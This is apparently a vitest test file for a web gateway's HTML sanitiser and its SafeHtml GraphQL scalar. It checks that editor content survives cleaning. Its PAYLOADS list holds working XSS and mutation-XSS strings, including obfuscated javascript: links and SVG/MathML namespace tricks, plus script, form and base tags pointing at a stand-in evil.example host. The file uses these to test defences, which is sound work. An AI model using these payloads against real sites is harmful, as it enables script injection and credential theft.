import { buildSchema, isNonNullType, isObjectType } from 'graphql';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../gateway/base/sanitize-html.ts';
import { SafeHtmlScalar } from '../../gateway/base/scalars.ts';
import { loadTypeDefs } from '../../gateway/graphql/type-defs.ts';

// Runs under Node, so this is also the server path of the sanitiser (DOMPurify over jsdom).

/** Parses the cleaned HTML as the browser would when React sets it as innerHTML. */
function parse(html: string): HTMLElement {
  const { document } = new JSDOM('<!DOCTYPE html><body></body>').window;
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

/** True when nothing in the HTML can run script or take the visitor elsewhere unasked. */
function isHarmless(html: string): boolean {
  const root = parse(html);
  if (root.querySelector('script, style, iframe, frame, object, embed, form, input, button, svg, math, base'))
    return false;
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      if (attribute.name.toLowerCase().startsWith('on')) return false;
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute.name.toLowerCase())) {
        const scheme = [...attribute.value].filter((char) => (char.codePointAt(0) ?? 0) > 0x20).join('');
        if (/^(javascript|vbscript|data:text\/html)/i.test(scheme)) return false;
      }
    }
  }
  return true;
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<p>Tekst<script src="https://evil.example/x.js"></script></p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload="alert(2)">',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="JaVaScRiPt:alert(1)">klik</a>',
  '<a href="java\tscript:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>',
  '<a href=" \u0001javascript:alert(1)">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">klik</text></a></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example/"><input name="wachtwoord"><button>Verstuur</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<p onmouseover="alert(1)">Zweef</p>',
];

describe('sanitizeHtml', () => {
  it.each(PAYLOADS)('makes %s harmless', (payload) => {
    const clean = sanitizeHtml(payload);
    expect(isHarmless(clean), clean).toBe(true);
    expect(clean).not.toMatch(
      /onerror|onload|onclick|ontoggle|onmouseover|javascript:|<script|<iframe|<form/i,
    );
  });

  it('keeps the text of the elements it removes', () => {
    expect(sanitizeHtml('<form><p>Inschrijven kan <em>online</em></p></form>')).toBe(
      '<p>Inschrijven kan <em>online</em></p>',
    );
    expect(sanitizeHtml('<a href="javascript:alert(1)">klik</a>')).toBe('<a>klik</a>');
  });

  it('keeps ordinary editor content as it was', () => {
    const html =
      '<h2>Kom langs</h2><p>Open van <strong>maandag</strong> tot <em>vrijdag</em>. ' +
      'Lees de <a href="/algemene-voorwaarden">voorwaarden</a> of mail ' +
      '<a href="mailto:info@studiolumen.nl">info@studiolumen.nl</a>.</p>' +
      '<h3>Zo werkt het</h3><ul><li>Eén</li><li>Twee</li></ul><ol><li>Drie</li></ol>' +
      '<p><img src="/api/media/studio.jpg" alt="De studio" width="640" height="360"></p>' +
      '<blockquote><p>Een citaat</p></blockquote>' +
      '<table><thead><tr><th scope="col">Dag</th></tr></thead><tbody><tr><td>ma</td></tr></tbody></table>' +
      '<p><a href="https://www.example.com/pagina?a=1&amp;b=2">extern</a><br>regel</p>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('gives links that open a new tab rel="noopener noreferrer"', () => {
    expect(sanitizeHtml('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeHtml('<a href="https://example.com" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    // Other targets (named windows, _top) are dropped: a link opens here or in a new tab.
    expect(sanitizeHtml('<a href="/contact" target="_top">x</a>')).toBe('<a href="/contact">x</a>');
  });

  it('keeps images from /api/media/ or https only (domain/safe-html.ts), and links of its schemes', () => {
    expect(sanitizeHtml('<img src="https://cdn.example.nl/a.jpg" alt="a">')).toBe(
      '<img src="https://cdn.example.nl/a.jpg" alt="a">',
    );
    for (const src of ['x', 'http://example.nl/a.jpg', 'data:image/png;base64,AAAA', '//evil.example/a.jpg'])
      expect(sanitizeHtml(`<p>Foto<img src="${src}"></p>`), src).toBe('<p>Foto</p>');
    expect(sanitizeHtml('<a href="ftp://example.nl/x">x</a><a href="tel:+31207604210">bel</a>')).toBe(
      '<a>x</a><a href="tel:+31207604210">bel</a>',
    );
    // An attribute of another tag only (href on a paragraph) goes.
    expect(sanitizeHtml('<p href="/x" colspan="2">x</p>')).toBe('<p>x</p>');
  });

  it('answers an empty string for empty or whitespace-only input', () => {
    expect(sanitizeHtml('')).toBe('');
    expect(sanitizeHtml('<script>alert(1)</script>')).toBe('');
  });
});

describe('the SafeHtml scalar', () => {
  it('cleans what the gateway sends, so the browser can insert it as it is', () => {
    expect(
      SafeHtmlScalar.serialize('<p onclick="x()">Hoi<img src=/api/media/pages/x.svg onerror=alert(1)></p>'),
    ).toBe('<p>Hoi<img src="/api/media/pages/x.svg"></p>');
  });

  it('types every editor-written HTML field of the schema', () => {
    const schema = buildSchema(loadTypeDefs());
    const htmlFields = ['Block.content', 'Widget.content', 'BannerItem.content', 'Faq.answer'];
    for (const name of htmlFields) {
      const [typeName = '', fieldName = ''] = name.split('.');
      const type = schema.getType(typeName);
      if (!isObjectType(type)) throw new Error(`${typeName} is missing`);
      const fieldType = type.getFields()[fieldName]?.type;
      expect(isNonNullType(fieldType) ? fieldType.ofType.toString() : String(fieldType), name).toBe(
        'SafeHtml',
      );
    }
  });
});
